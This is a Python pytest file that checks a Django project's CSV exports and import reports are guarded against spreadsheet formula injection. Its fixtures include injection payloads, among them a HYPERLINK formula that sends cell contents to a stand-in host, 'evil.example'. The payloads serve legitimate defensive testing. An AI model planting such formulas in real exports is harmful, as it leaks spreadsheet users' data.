"""CSV files a spreadsheet opens safely: text that would run as a formula gets a leading '.

The helper (``swim.csv_safety``) first, then every CSV export of the directory and discovery:
the directory list, an import's report of rejected rows and the concentration table. (The
diagnostic's exports have their own tests.)
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from swim.csv_safety import SafeWriter, safe_cell
from swim.directory.importers.base import OrgRecord, Rejected
from swim.directory.importers.ccni import CcniImporter
from swim.directory.importing import run_import
from swim.directory.models import Classification
from swim.testing import Personas, make_org

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize(
    "value",
    [FORMULA, "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "+44 20 7946 0000", "-"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [-3.5, -7, Decimal("-2.25"), 0, None, True, "-3.5", "+12", "-1e5", ".5", "Age UK", "a=b", ""],
)
def test_numbers_and_harmless_text_are_left_alone(value: Any) -> None:
    """A negative number, as a number or as the text of a plain number, is not a formula."""
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell_of_each_row() -> None:
    out = io.StringIO()
    writer = SafeWriter(out)
    writer.writerow(["name", "longitude"])
    writer.writerows([[FORMULA, -2.5], ["Age UK", "-3.5"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "longitude"],
        ["'" + FORMULA, "-2.5"],
        ["Age UK", "-3.5"],
    ]


def read(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


@pytest.mark.django_db
def test_the_directory_export_prefixes_a_formula_name_but_not_a_negative_longitude(
    client: Client, personas: Personas
) -> None:
    make_org(org_id="GB-CHC-7000001", name=FORMULA, longitude=-2.3, latitude=53.4)
    make_org(org_id="GB-CHC-7000002", name="Plain Trust", activities="-3.5")
    client.force_login(personas.facilitator)
    response = client.get("/directory/export.csv", {"status": "all"})
    rows = {r["org_id"]: r for r in read(b"".join(response.streaming_content))}  # type: ignore[attr-defined]
    assert rows["GB-CHC-7000001"]["name"] == "'" + FORMULA
    assert rows["GB-CHC-7000001"]["longitude"].startswith("-2.3")
    assert rows["GB-CHC-7000002"]["activities"] == "-3.5"  # a plain number stays as it is


@pytest.mark.django_db
def test_the_concentration_export_prefixes_formula_labels_and_areas(
    client: Client, personas: Personas
) -> None:
    field = Classification.objects.create(scheme="ukcat", code="XX", label=FORMULA)
    for i in range(10):
        org = make_org(local_authority="@Evil Borough", postcode="EV1 1AA")
        if i < 6:
            org.classifications.add(field)
    make_org(local_authority="Calm Borough", postcode="CA1 1AA")
    client.force_login(personas.facilitator)
    response = client.get("/discovery/concentration/export/", {"field": str(field.pk)})
    assert response.status_code == 200
    (row,) = read(response.content)
    assert row["field_label"] == "'" + FORMULA
    assert row["area"] == "'@Evil Borough"
    assert (row["in_field"], row["all_organisations"]) == ("6", "10")
    assert not row["location_quotient"].startswith("'")


class QuotingImporter(CcniImporter):
    """Rejects every row with a reason that quotes the file's charity name."""

    def parse_row(self, row: dict[str, str]) -> OrgRecord:
        raise Rejected(row["Charity name"])


@pytest.mark.django_db
def test_an_import_report_quoting_a_formula_from_the_file_prefixes_it(
    tmp_path: Path, settings: Any
) -> None:
    settings.VAR_DIR = tmp_path
    header = (
        "Reg charity number,Sub charity number,Charity name,Date registered,Status,"
        "Date for financial year ending,Total income,Total spending,Charitable spending,"
        "Income generation and governance,Retained for future use,Public address,Website,"
        "Email,Telephone,Company number,What the charity does,Who the charity helps,"
        "How the charity works,"
    )
    register = tmp_path / "register.csv"
    name = '"=HYPERLINK(""http://evil.example"",""Click"")"'
    register.write_text(f"{header}\n100002,0,{name}" + ",x" * 17 + "\n", encoding="utf-8")
    run = run_import(QuotingImporter(), register)
    assert run.rejected == 1
    (row,) = read(Path(run.report_file).read_bytes())
    assert row == {
        "row": "2",
        "kind": "rejected",
        "reason": "'" + '=HYPERLINK("http://evil.example","Click")',
    }
